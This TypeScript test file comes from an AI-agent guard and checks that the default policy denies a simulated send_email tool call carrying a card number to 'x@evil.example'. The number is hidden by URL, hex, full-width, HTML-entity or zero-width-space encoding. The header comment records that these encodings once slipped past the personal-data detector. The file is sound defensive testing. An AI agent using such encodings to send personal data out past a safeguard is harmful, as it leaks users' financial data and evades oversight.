/**
 * Red team: personal data sent encoded. The `pii` detector read the text as it is, so a payment card number sent to
 * an outside address URL-encoded, hex-encoded, in full-width digits, as HTML references or split by zero-width
 * spaces was allowed by the default book's no-pii-external (fails before). A field with nothing in clear is now read
 * again decoded, as the secrets detector does. Controls: ordinary encoded text is allowed.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import '../../src/detectors/index.js';
import type { Interaction } from '../../src/core/types.js';
import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';
import { ROOT } from '../support/proxy-harness.js';

const CARD = '4111 1111 1111 1111';
const chars = (s: string, f: (c: string) => string) => [...s].map(f).join('');

describe('default book: personal data sent encoded to an outside address', () => {
  let guard: BuiltGuard;
  let n = 0;
  const send = (body: string) =>
    guard.pipeline.check({ agent: `agent-${++n}`, session: `s${n}`, profile: {}, kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'x@evil.example', body } } as Interaction);
  beforeAll(async () => {
    guard = await buildGuard({ policy: join(ROOT, 'policies', 'default'), store: ':memory:' });
  });
  afterAll(async () => guard?.close());

  it.each<[string, string]>([
    ['URL-encoded', encodeURIComponent(`card ${CARD}`)],
    ['hex-encoded', Buffer.from(`card ${CARD}`).toString('hex')],
    ['in full-width digits', `card ${chars(CARD, (c) => (c === ' ' ? c : String.fromCharCode(c.charCodeAt(0) + 0xfee0)))}`],
    ['as HTML references', chars(`card ${CARD}`, (c) => `&#${c.charCodeAt(0)};`)],
    ['split by zero-width spaces', `card ${[...CARD.replace(/ /g, '')].join('\u200b')}`],
  ])('denies a card number sent %s', async (_what, body) => {
    const d = await send(body);
    expect(d.decision).toBe('deny');
    expect(d.rules).toContain('no-pii-external');
  });

  it.each<[string, string]>([
    ['a URL-encoded sentence', encodeURIComponent('see you at 10:30 in room 4B, order 4111-22')],
    ['an order number in hex', Buffer.from('order 1234 5678 9012 3456').toString('hex')],
    ['full-width text', 'ｍｅｅｔｉｎｇ at ３ pm'],
  ])('allows %s (control)', async (_what, body) => {
    expect((await send(body)).decision).toBe('allow');
  });
});
